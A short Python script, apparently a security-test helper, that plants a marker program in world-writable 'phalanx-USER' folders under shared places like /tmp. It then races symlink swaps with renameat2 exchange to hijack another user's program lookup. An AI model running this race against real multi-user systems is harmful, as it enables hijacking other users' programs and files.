#!/usr/bin/env python3
# swap.py USER BUILD LINK PLACE... -- what another user of a host can do to a program that is found by name: in each PLACE (/tmp, ...) makes
# the folder that USER's deployment may look into, with a program of ours in it, and keeps exchanging one step of its path (the program, the
# folder, the folder of the build) with a link to LINK, which is USER's own. Prints "swapping" once, and on SIGTERM how often it exchanged.
import ctypes
import os
import signal
import sys

user, build, link, places = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
os.umask(0)
steps = []
for number, place in enumerate(places):
    folder = f"{place}/phalanx-{user}"
    os.makedirs(f"{folder}/{build}", 0o777)
    program = f"{folder}/{build}/phalanx"
    with open(program, "w") as file:
        file.write('#!/bin/sh\necho executed "$@" >>/tmp/loot/by-$(id -un)\n')
    os.chmod(program, 0o755)
    step = [program, folder, f"{folder}/{build}"][number % 3]
    os.symlink(link, step + "-link")
    steps.append((step.encode(), (step + "-link").encode()))

exchange = ctypes.CDLL(None).renameat2
kHere, kExchange, count, ended = -100, 2, 0, False


def end(*_):
    global ended
    ended = True


signal.signal(signal.SIGTERM, end)
print("swapping", flush=True)
while not ended:
    for step, other in steps:
        if exchange(kHere, step, kHere, other, kExchange) == 0:
            count += 1
print(count, flush=True)
